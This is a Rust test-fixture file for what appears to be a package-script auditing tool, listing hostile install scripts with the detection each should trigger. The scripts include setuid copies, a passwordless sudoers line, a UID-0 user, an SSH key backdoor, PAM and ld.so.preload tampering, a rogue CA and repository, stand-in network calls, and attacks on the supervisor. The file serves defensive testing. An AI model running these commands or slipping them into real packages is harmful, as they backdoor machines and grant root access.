//! What the scripts of packages do.

use assay_wire::privileged::KindName;

use super::{case, on};
use crate::evil::Case;
use crate::evil::Class::{Accompanying, Undeclared};
use crate::evil::Deed::Script;
use crate::evil::On::Only;
use crate::stand::Manager;

/// Bad scripts.
pub(super) const SCRIPTS: &[Case] = &[
    case(
        "setuid-script",
        "a program of the machine's is copied, and runs as root",
        Script("cp /usr/bin/id /usr/local/bin/evil-id\nchmod 4755 /usr/local/bin/evil-id"),
        (KindName::FileSetuid, "/usr/local/bin/evil-id 4755 root"),
        Accompanying,
    ),
    case(
        "capability-script",
        "a program gets a capability",
        Script(
            "cp /usr/bin/id /usr/local/bin/evil-id\n/usr/lib/evil/helper setcap /usr/local/bin/evil-id",
        ),
        (
            KindName::FileCapability,
            "/usr/local/bin/evil-id cap_net_raw=ep",
        ),
        Accompanying,
    ),
    case(
        "sudoers-script",
        "a line for sudo",
        Script("mkdir -p /etc/sudoers.d\necho 'dev ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/evil"),
        (KindName::Sudoers, "/etc/sudoers.d/evil"),
        Accompanying,
    ),
    case(
        "cron-script",
        "a table of root's own for the clock",
        Script(
            "mkdir -p /var/spool/cron/crontabs\necho '* * * * * true' > /var/spool/cron/crontabs/root",
        ),
        (KindName::Cron, "/var/spool/cron/crontabs/root"),
        Accompanying,
    ),
    case(
        "timer-script",
        "a timer is written and enabled",
        Script(
            "printf '[Timer]\\nOnCalendar=hourly\\n' > /etc/systemd/system/evil.timer\n\
             mkdir -p /etc/systemd/system/timers.target.wants\n\
             ln -s ../evil.timer /etc/systemd/system/timers.target.wants/evil.timer",
        ),
        (KindName::UnitEnabled, "evil.timer"),
        Accompanying,
    ),
    case(
        "unit-edited-script",
        "the unit of another package runs something else",
        Script(
            "sed -i 's,^ExecStart=.*,ExecStart=/usr/lib/evil/helper nothing,' /usr/lib/systemd/system/victim.service",
        ),
        (KindName::UnitFile, "/usr/lib/systemd/system/victim.service"),
        Undeclared,
    ),
    case(
        "user-script",
        "a second user with the number 0",
        Script("useradd --non-unique --uid 0 --gid 0 --no-create-home --shell /bin/sh evil"),
        (KindName::UserAdd, "evil"),
        Accompanying,
    ),
    case(
        "docker-script",
        "a user joins `docker`",
        Script("groupadd docker\nusermod -aG docker dev"),
        (KindName::GroupMember, "dev -> docker"),
        Accompanying,
    ),
    case(
        "ssh-key-script",
        "a key that lets somebody log in as a user",
        Script(
            "mkdir -p /home/dev/.ssh\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEV2aWwgaXMgd2hhdCBldmlsIGRvZXMsIG1hbnkgdGltZXM evil' > /home/dev/.ssh/authorized_keys",
        ),
        (KindName::SshKey, "/home/dev/.ssh/authorized_keys"),
        Accompanying,
    ),
    case(
        "pam-edited-script",
        "nobody has to prove anything to su(1) any more",
        Script("echo 'auth sufficient pam_permit.so' >> /etc/pam.d/su"),
        (KindName::Pam, "/etc/pam.d/su"),
        Undeclared,
    ),
    case(
        "preload-script",
        "a library for every program",
        Script("echo /usr/lib/evil.so > /etc/ld.so.preload"),
        (KindName::LdPreload, "/etc/ld.so.preload"),
        Accompanying,
    ),
    case(
        "ca-edited-script",
        "an authority is added to the machine's own file of them",
        Script(
            "printf '%s\\n' '-----BEGIN CERTIFICATE-----' RXZpbCBhdXRob3JpdHk= '-----END CERTIFICATE-----' >> /etc/ssl/certs/ca-certificates.crt",
        ),
        (KindName::CaAdd, "/etc/ssl/certs/ca-certificates.crt"),
        Accompanying,
    ),
    on(
        Only(Manager::Pacman),
        case(
            "pacman-source-script",
            "a second repository",
            Script(
                "printf '\\n[evil]\\nServer = https://evil.assay.test/b\\n' >> /etc/pacman.conf",
            ),
            (KindName::PkgSource, "https://evil.assay.test/b"),
            Undeclared,
        ),
    ),
    case(
        "listen-script",
        "a port is listened on",
        Script("/usr/lib/evil/helper listen 0.0.0.0 4444"),
        (KindName::NetListen, "0.0.0.0 port 4444"),
        Accompanying,
    ),
    case(
        "connect-script",
        "a connection past the proxy",
        Script("/usr/lib/evil/helper connect 192.0.2.1 443"),
        (KindName::NetConnect, "192.0.2.1 port 443"),
        Accompanying,
    ),
    case(
        "fetch-script",
        "a host that nobody named is asked for through the proxy",
        Script("/usr/lib/evil/helper fetch 9473 evil.assay.test"),
        (KindName::NetConnect, "evil.assay.test port 80"),
        Accompanying,
    ),
    case(
        "module-script",
        "a module for the kernel",
        Script("/usr/lib/evil/helper module /usr/lib/evil/helper"),
        (KindName::Kmod, "init_module"),
        Accompanying,
    ),
    case(
        "mount-script",
        "a file system is mounted",
        Script("/usr/lib/evil/helper mount /mnt"),
        (KindName::Mount, "/mnt"),
        Accompanying,
    ),
    case(
        "memfd-script",
        "a program that no file holds",
        Script("/usr/lib/evil/helper memfd evil"),
        (KindName::MemfdExec, "evil"),
        Accompanying,
    ),
    case(
        "io-uring-script",
        "calls that no filter sees, which are refused",
        Script("/usr/lib/evil/helper uring"),
        (KindName::CaptureGap, "* io_uring, which was refused"),
        Accompanying,
    ),
    case(
        "32-bit-script",
        "a call by another number, which is refused",
        Script("/usr/lib/evil/helper old"),
        (
            KindName::CaptureGap,
            "* call 20 of another architecture, which was refused",
        ),
        Accompanying,
    ),
    case(
        "attach-script",
        "the supervisor is attached to",
        Script("/usr/lib/evil/helper attach"),
        (KindName::Ptrace, "16 1"),
        Undeclared,
    ),
    case(
        "memory-script",
        "the supervisor's memory is written to",
        Script("/usr/lib/evil/helper memory"),
        (KindName::Ptrace, "/proc/1/mem"),
        Undeclared,
    ),
    case(
        "kill-script",
        "the supervisor is killed",
        Script("/usr/lib/evil/helper kill"),
        (KindName::Ptrace, "kill 1 9"),
        Undeclared,
    ),
    case(
        "forge-script",
        "the supervisor's stream of events is written to",
        Script("/usr/lib/evil/helper forge"),
        (KindName::Ptrace, "/proc/1/fd/1"),
        Undeclared,
    ),
    case(
        "passing-script",
        "a line for sudo that is gone before the step is over",
        Script(
            "mkdir -p /etc/sudoers.d\n/usr/lib/evil/helper passing /etc/sudoers.d/evil 'dev ALL=(ALL) NOPASSWD: ALL'",
        ),
        (KindName::Sudoers, "/etc/sudoers.d/evil"),
        Accompanying,
    ),
    case(
        "back-script",
        "a file of PAM's that is changed, and changed back",
        Script("/usr/lib/evil/helper back /etc/pam.d/su 'auth sufficient pam_permit.so'"),
        (KindName::Pam, "/etc/pam.d/su"),
        Undeclared,
    ),
    case(
        "race-script",
        "a path that changes between the look at it and its use",
        Script(
            "mkdir -p /etc/cron.d\n/usr/lib/evil/helper race /var/tmp/evil-xy /etc/cron.d/evil '* * * * * root true'",
        ),
        (KindName::Cron, "/etc/cron.d/evil"),
        Accompanying,
    ),
    case(
        "alias-script",
        "/etc/shadow is opened for everybody by another name of it",
        Script("/usr/lib/evil/helper alias /etc/shadow /etc/evil-shadow"),
        (KindName::FileWrite, "/etc/shadow*"),
        Undeclared,
    ),
    case(
        "newline-script",
        "a name with an end of line",
        Script(
            "cp /usr/bin/id \"$(printf '/usr/local/bin/evil\\nid')\"\nchmod 4755 /usr/local/bin/evil*",
        ),
        (KindName::FileSetuid, "/usr/local/bin/evil\\x0aid 4755 root"),
        Accompanying,
    ),
    case(
        "bytes-script",
        "a name that is no UTF-8",
        Script(
            "cp /usr/bin/id \"$(printf '/usr/local/bin/evil\\377\\300\\257')\"\nchmod 4755 /usr/local/bin/evil*",
        ),
        (
            KindName::FileSetuid,
            "/usr/local/bin/evil\\xff\\xc0\\xaf 4755 root",
        ),
        Accompanying,
    ),
];
